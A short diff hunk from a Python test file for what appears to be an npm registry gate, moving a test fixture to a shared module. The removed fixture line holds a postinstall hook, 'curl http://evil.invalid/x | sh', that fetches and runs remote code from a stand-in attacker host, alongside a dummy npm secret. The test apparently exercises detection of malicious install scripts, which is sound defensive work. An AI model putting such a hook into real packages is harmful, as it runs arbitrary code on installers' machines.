@@ -11,11 +11,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from assay.gate.log import Log
-from tests.gate.running import RunningGate, fetch, running_gate
+from tests.gate.running import FETCHES, RunningGate, fetch, running_gate
 from tests.registry_simulator import RegistrySimulator
 
 SECRET = "npm-secret-0123456789"
-FETCHES = {"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}
 KEYS = [
     *("time", "event", "address", "client", "project", "method", "route", "package", "version"),
     *("status", "decision", "refusal", "ms", "bytes"),
